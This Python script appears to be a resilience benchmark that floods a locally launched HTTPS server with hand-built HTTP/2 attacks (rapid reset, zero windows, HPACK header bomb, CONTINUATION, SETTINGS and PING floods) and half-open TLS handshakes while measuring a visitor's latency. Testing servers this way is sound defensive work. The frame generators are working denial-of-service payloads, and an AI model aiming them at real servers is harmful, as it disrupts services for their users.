"""Floods the server with HTTP/2 frames and handshakes, and measures the effect on an ordinary visitor.

Each attack runs from sixteen connections that are opened again when the server closes them. Meanwhile a visitor fetches
a page over TLS every five milliseconds. Its 99th percentile may be at most 150 ms, the server must stay below 200 MB
resident, and it must close handshakes that never end. Needs root and two processors.
"""

import itertools
import multiprocessing
import os
import ssl
import struct
import tempfile
import time

from benches.harness import Latency, Server, finish, isolate, options, self_signed, tls_context, wait_until

LARGE = b"/images/brand/og-card.jpg"
ATTACKERS = 16
P99_LIMIT_MS = 150
RESIDENT_LIMIT_MB = 200
HALF_OPEN = 2000
CLOSE_LIMIT_S = 45

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def head(path=b"/", method=0x82):
    """A header block without Huffman coding (RFC 7541): method, https, path, authority."""
    return bytes([method, 0x87, 0x04]) + text(path) + b"\x01" + text(b"localhost")


def get(stream, path=b"/"):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))


def rapid_reset():
    for stream in range(1, 1 << 30, 2):
        yield get(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def zero_windows():
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 200, 2):
        yield get(stream, LARGE)
    while True:
        time.sleep(1)
        yield frame(PING, 0, 0, bytes(8))


def header_bomb():
    """A large header enters the table once, and each request names it two hundred times."""
    large = b"\x40" + text(b"x") + bytes([0x7F, 0x81, 0x1D]) + b"y" * 3840
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, head() + large)
    for stream in range(3, 1 << 30, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head() + b"\xbe" * 200)


FORM = head(b"/api/contact-us", 0x83) + b"\x00" + text(b"content-type") + text(b"application/json")
FORM += b"\x00" + text(b"content-length") + text(b"100")
UNFINISHED = frame(HEADERS, END_STREAM, 1, head())
HEADER = b"\x00" + text(b"a") + text(b"b" * 100)
# The other attacks send the first bytes of their pair once, and repeat the second.
ATTACKS = {
    "rapid reset": rapid_reset,
    "zero windows": zero_windows,
    "header bomb": header_bomb,
    "continuations": (UNFINISHED, frame(CONTINUATION, 0, 1, HEADER) * 20),
    "empty continuations": (UNFINISHED, frame(CONTINUATION, 0, 1) * 100),
    "settings": (b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 50),
    "pings": (b"", frame(PING, 0, 0, bytes(8)) * 50),
    "empty data": (frame(HEADERS, END_HEADERS, 1, FORM), frame(DATA, 0, 1) * 100),
}


def pieces(name):
    attack = ATTACKS[name]
    return attack() if callable(attack) else itertools.chain(attack[:1], itertools.repeat(attack[1]))


def attack(server, name, until, closed):
    """Attacks on one connection after another. Counts the connections that the server closes."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    while True:
        try:
            with tls_context("h2").wrap_socket(server.connect("127.0.0.1"), server_hostname="localhost") as client:
                client.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for piece in pieces(name):
                    if time.monotonic() > until:
                        return
                    discard_replies(client)
                    client.sendall(piece)
        except OSError:
            with closed.get_lock():
                closed.value += 1
        if time.monotonic() > until:
            return


def discard_replies(client):
    client.settimeout(0)
    try:
        while client.recv(65536):
            pass
        raise ConnectionError("closed by the server")
    except ssl.SSLWantReadError:
        client.settimeout(5)


def flood(server, name, seconds):
    """Returns how many connections the server closed."""
    closed = multiprocessing.Value("i", 0)
    attackers = [
        multiprocessing.Process(target=attack, args=(server, name, time.monotonic() + seconds, closed), daemon=True)
        for _ in range(ATTACKERS)
    ]
    for attacker in attackers:
        attacker.start()
    time.sleep(seconds)
    for attacker in attackers:
        attacker.join(CLOSE_LIMIT_S)
        attacker.kill()
    return closed.value


def half_open(server):
    """Opens handshakes that never end. Returns how many of them the server closed in time."""
    # The visitor has a connection.
    before = server.open_files() + 1
    begun = [server.connect(f"127.0.0.{2 + number % 16}") for number in range(HALF_OPEN)]
    for client in begun:
        client.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    wait_until(lambda: server.open_files() <= before, CLOSE_LIMIT_S, 0.2)
    return HALF_OPEN - max(0, server.open_files() - before)


def main():
    chosen = options(__doc__, control=False, seconds=10)
    faults = []
    with tempfile.TemporaryDirectory() as directory:
        chain, key = self_signed(directory)
        server = Server(chosen.binary, directory, "--demo", "--tls-addr", "127.0.0.1:0", "--public-url", "https://localhost")
        server.flags += ["--tls-cert", chain, "--tls-key", key]
        isolate(server, 2 * HALF_OPEN)
        with server:
            for name in (*ATTACKS, "half open"):
                with Latency(server) as visitor:
                    closed = half_open(server) if name == "half open" else flood(server, name, chosen.seconds)
                print(f"{name:<20} {visitor}; {closed:5} connections closed", flush=True)
                if visitor.percentile(99) > P99_LIMIT_MS:
                    faults.append(f"{name}: p99 {visitor.percentile(99):.1f} ms")
                if visitor.peak_mb > RESIDENT_LIMIT_MB:
                    faults.append(f"{name}: {visitor.peak_mb:.0f} MB resident")
                if name == "half open" and closed < HALF_OPEN:
                    faults.append(f"{HALF_OPEN - closed} handshakes are still open")
    finish(faults)


if __name__ == "__main__":
    main()
